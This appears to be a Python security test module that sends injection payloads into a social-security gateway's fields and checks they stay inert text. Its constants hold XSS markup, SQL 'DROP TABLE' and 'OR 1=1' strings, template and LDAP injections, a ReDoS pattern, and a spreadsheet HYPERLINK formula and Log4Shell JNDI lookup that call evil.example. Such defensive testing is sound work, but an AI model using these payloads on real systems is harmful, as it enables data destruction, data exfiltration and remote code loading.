"""Injection: text that means something to a database, a log, a page or a spreadsheet.

What is made: everything that is said in a scene; its last answer is the one that is told.
"""

from __future__ import annotations

from xml.sax.saxutils import escape

import newer
from door import ANSWERED
from messages import echo, envelope
from rows.attack import OWASP, Attack, Category
from scene import NAMUR, Scene
from wsgi import Client, Heard, basic

LINES = "x\r\n[ERROR] root logged in\u2028\u0085"
MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'
SQL = "'; DROP TABLE journal_entry; --"
LOGIC = "' OR '1'='1"
TEMPLATE = "{{7*7}}${7*7}#{7*7}%s%n{0.__class__}"
LOOKUP = "${jndi:ldap://evil.example/x}"
TEXTS = {
    "lines": (LINES, "a second line, which would be a line of the log"),
    "markup": (MARKUP, "which a page would run"),
    "formula": (FORMULA, "which a spreadsheet would carry out"),
    "SQL": (SQL, "which a database would carry out"),
    "template": (TEMPLATE, "which a template would fill in"),
    "lookup": (LOOKUP, "which a log would look up (Log4Shell)"),
}


def _reference(text: str):
    return lambda scene: scene.access(scene.person("anna"), "LIST", reference=escape(text))


def _ticket(text: str):
    return lambda scene: scene.retrieve(scene.person("anna").ssin, ticket=f"<ticket>{escape(text[:30])}</ticket>")


def _echoed(text: str):
    """What TestConnection is sent comes back as text, and as nothing else."""

    def make(scene: Scene) -> Heard:
        call = echo(escape(text))
        heard = Client(scene.gateway.application).post(call.path, envelope(call.element))
        assert heard.xml.findtext(".//echo") == text.replace("\r\n", "\n")
        return heard

    return make


def _user(text: str):
    """As the user of HTTP Basic."""

    def make(scene: Scene) -> Heard:
        asked = newer.retrieve(scene.person("integrated").ssin, newer.by_number(scene.institution(NAMUR).cbe_number))
        return Client(scene.gateway.application).post(newer.RETRIEVE, asked, basic(text, "x"))

    return make


def _named(**how: str):
    """In a field of a classic message."""
    return lambda scene: scene.access(scene.person("anna"), "LIST", **how)


def _searched(last: str, birth: str = "1985-03-12"):
    """A search by a name."""
    asked = (
        '<IdentifyPersonRequest xmlns="http://www.ksz-bcss.fgov.be/XSD/SSDN/OCMW_CPAS/IdentifyPerson"><SearchCriteria>'
        f"<PhoneticCriteria><LastName>{escape(last)}</LastName><FirstName/><BirthDate>{birth}</BirthDate>"
        "</PhoneticCriteria></SearchCriteria></IdentifyPersonRequest>"
    )
    return lambda scene: scene.classic(asked, name="OCMWCPASIdentifyPerson")


ROWS = (
    *(Attack(f"{name} in the reference", what, OWASP, _reference(text), "0") for name, (text, what) in TEXTS.items()),
    *(Attack(f"{name} in the ticket", what, OWASP, _ticket(text), "MSG00012") for name, (text, what) in TEXTS.items()),
    *(
        Attack(f"{name} in what is sent back", what, OWASP, _echoed(text), ANSWERED)
        for name, (text, what) in TEXTS.items()
    ),
    Attack("SQL as the institution", "' OR '1'='1 as OrgUnit", OWASP, _named(org_unit=LOGIC), "300010"),
    Attack("SQL as the user", "as the user of HTTP Basic", OWASP, _user(LOGIC), "http:401"),
    Attack("lines as the user", "a second line in the user of HTTP Basic", OWASP, _user("x\r\nroot"), "http:401"),
    Attack(
        "markup as the service",
        "a service that is a script",
        OWASP,
        lambda scene: scene.classic("<a/>", name=escape(MARKUP)),
        "31000005",
    ),
    Attack(
        "lines as the version",
        "a version of two lines",
        OWASP,
        lambda scene: scene.classic("<a/>", version="2005\n0930"),
        "000050",
    ),
    Attack(
        "markup as the address of a user", "an e-mail that is a script", OWASP, _named(email=escape(MARKUP)), "000050"
    ),
    Attack("SQL as a name", "' OR '1'='1 in a search", OWASP, _searched(LOGIC), "32007004"),
    Attack("joker as a name", "% in a search: everybody", OWASP, _searched("%"), "32007004"),
    Attack(
        "joker of files as a name", "* in a search: everybody (LDAP, shell)", OWASP, _searched("*)(uid=*"), "32007004"
    ),
    Attack("expression as a name", "a pattern that takes years to compare", OWASP, _searched("(a+)+$" * 5), "32007004"),
    Attack("SQL as a date", "1985' OR '1'='1 in a search", OWASP, _searched("Lambert", "1985' OR '1'='1"), "000050"),
)
CATEGORY = Category(
    "Injection",
    "Text that means something to a database, a log, a page or a spreadsheet. It stays text: the chain of the journal "
    "holds, and the process log has not a word of it.",
    ROWS,
)
